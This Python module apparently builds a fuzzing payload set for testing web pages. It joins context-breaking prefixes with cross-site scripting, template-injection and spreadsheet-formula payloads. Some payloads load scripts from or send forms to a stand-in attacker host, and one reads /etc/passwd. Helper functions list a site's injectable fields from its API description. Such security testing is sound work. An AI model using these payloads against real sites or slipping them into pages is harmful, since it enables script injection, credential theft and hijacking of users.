"""Two hundred strings that want to come alive in a page: every way out of a place in it, before everything that acts once it is out.

And the fields that they can be given in, as the site describes itself.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

WAYS_OUT = (
    "",
    '">',
    "'>",
    "</title></textarea></style>",
    "</q></bdi></a></td></tr></table>",
    "--><!-- ]]>",
    "\u202e",
    "%22%3E",
    '\\"; ',
    '" x="',
)
ACTS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=//evil.example><input name=a></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<details open ontoggle=alert(1)>x</details>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    'onmouseover="alert(1)" autofocus onfocus="alert(1)"',
    "{{ 7 * 7 }}{% include '/etc/passwd' %}{{ self.__init__ }}",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#x3c;b&#x3e;",
    '=HYPERLINK("//evil.example";"x")',
    "\x00\x08\x1b<b>\ufffe\u2028x</b>",
)
HOSTILE = tuple(way + act for way in WAYS_OUT for act in ACTS)


def asked_for(described: dict[str, Any]) -> Iterator[tuple[str, str]]:
    """Path and name of every text field in the address of a page."""
    for path, methods in described["paths"].items():
        operation = methods.get("get")
        if operation is None or "text/html" not in operation["responses"]["200"]["content"]:
            continue
        for parameter in operation.get("parameters", ()):
            if _takes_text(parameter["schema"]):
                yield path, parameter["name"]


def posted_to(described: dict[str, Any]) -> Iterator[tuple[str, list[str], dict[str, list[str]]]]:
    """Path and text fields of every form that is posted, and the values of those of its fields that have a choice of them."""
    for path, methods in described["paths"].items():
        content = methods.get("post", {}).get("requestBody", {}).get("content", {})
        for kind in ("multipart/form-data", "application/x-www-form-urlencoded"):
            if kind in content:
                form = _resolved(described, content[kind]["schema"])
                fields = form["properties"].items()
                choices = {name: field["enum"] for name, field in fields if "enum" in field}
                yield path, [name for name, field in fields if _takes_text(field)], choices


def _resolved(described: dict[str, Any], form: dict[str, Any]) -> dict[str, Any]:
    return described["components"]["schemas"][form["$ref"].rpartition("/")[2]] if "$ref" in form else form


def _takes_text(form: dict[str, Any]) -> bool:
    if "enum" in form or "const" in form:
        return False
    return form.get("type") == "string" or any(
        _takes_text(one) for one in (*form.get("anyOf", ()), *([form["items"]] if "items" in form else ()))
    )
